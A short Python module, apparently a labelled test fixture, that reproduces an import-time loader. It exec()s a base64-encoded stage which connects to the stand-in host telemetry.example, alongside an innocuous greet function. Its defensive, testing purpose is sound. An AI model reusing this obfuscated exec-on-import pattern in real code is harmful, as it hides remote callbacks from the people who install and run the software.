"""Defanged reproduction of an import-time loader: a base64 stage exec()'d on import
that connects to telemetry.example:443 (answered by the airlock sink)."""
import base64

_STAGE = "aW1wb3J0IHNvY2tldAp0cnk6CiAgICBzID0gc29ja2V0LmNyZWF0ZV9jb25uZWN0aW9uKCgidGVsZW1ldHJ5LmV4YW1wbGUiLCA0NDMpLCB0aW1lb3V0PTUpCiAgICBzLmNsb3NlKCkKZXhjZXB0IE9TRXJyb3I6CiAgICBwYXNzCg=="

exec(base64.b64decode(_STAGE))


def greet(name):
    return "hello " + name
